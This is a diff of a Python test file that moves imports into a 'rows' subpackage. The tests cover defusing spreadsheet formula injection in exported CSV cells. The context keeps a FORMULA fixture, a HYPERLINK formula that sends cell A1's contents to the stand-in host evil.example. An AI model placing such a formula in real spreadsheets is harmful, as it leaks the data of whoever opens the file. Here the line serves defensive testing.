@@ -9,9 +9,9 @@ import openpyxl
 import pytest
 from helpers import KEY, bulk_tasks, read_results
 
-from bulk_tasks.inputs import open_table
 from bulk_tasks.results import Journal, Outcome, Status
-from bulk_tasks.safe_cells import RISKY_STARTS, defuse, restore
+from bulk_tasks.rows.inputs import open_table
+from bulk_tasks.rows.safe_cells import RISKY_STARTS, defuse, restore
 from bulk_tasks.sandbox import Sandbox, SandboxServer
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -31,7 +31,7 @@ def test_other_cells_are_left_alone(text: str) -> None:
 
 
 def test_the_results_csv_defuses_and_reads_back_the_original(tmp_path: Path) -> None:
-    from bulk_tasks.inputs import Row
+    from bulk_tasks.rows.inputs import Row
 
     path = tmp_path / "out.csv"
     journal = Journal(path, ["content", "Account"], destination="lemlist")
